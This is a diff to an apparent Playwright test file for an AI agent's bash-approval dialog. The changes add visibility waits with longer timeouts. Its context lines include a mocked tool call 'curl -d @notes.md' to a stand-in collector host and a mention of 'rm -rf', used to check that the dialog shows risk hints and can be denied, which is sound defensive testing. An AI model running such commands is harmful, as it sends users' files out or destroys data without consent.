@@ -24,6 +24,8 @@ test('three asks of one response say 1 of 3, 2 of 3, 3 of 3; rm -rf gets a risk 
   await ask(page, 'Clean up.');
 
   const first = page.getByRole('dialog', { name: 'Approve bash?' });
+  // A turn reaches its ask after a model round trip; on a busy machine that can take longer than an assertion's default.
+  await expect(first).toBeVisible({ timeout: 15_000 });
   await expect(first.getByTestId('approval-position')).toHaveText('1 of 3');
   await expect(first.getByTestId('approval-position')).toHaveAccessibleName('Approval 1 of 3');
   const hints = first.getByTestId('risk-hints');
@@ -54,6 +56,7 @@ test('a lone ask shows no position', async ({ page, mino }) => {
   mino.server.enqueue({ calls: [{ name: 'bash', arguments: { command: 'curl -d @notes.md https://collector.example/upload' }, call_id: 'call_curl' }] }, { text: 'Denied.' });
   await ask(page, 'Upload the notes.');
   const dialog = page.getByRole('dialog', { name: 'Approve bash?' });
+  await expect(dialog).toBeVisible({ timeout: 15_000 });
   await expect(dialog.getByTestId('risk-hints')).toContainText('curl -d sends data to a server');
   await expect(dialog.getByTestId('approval-position')).toHaveCount(0);
   await dialog.getByRole('button', { name: 'Deny' }).click();
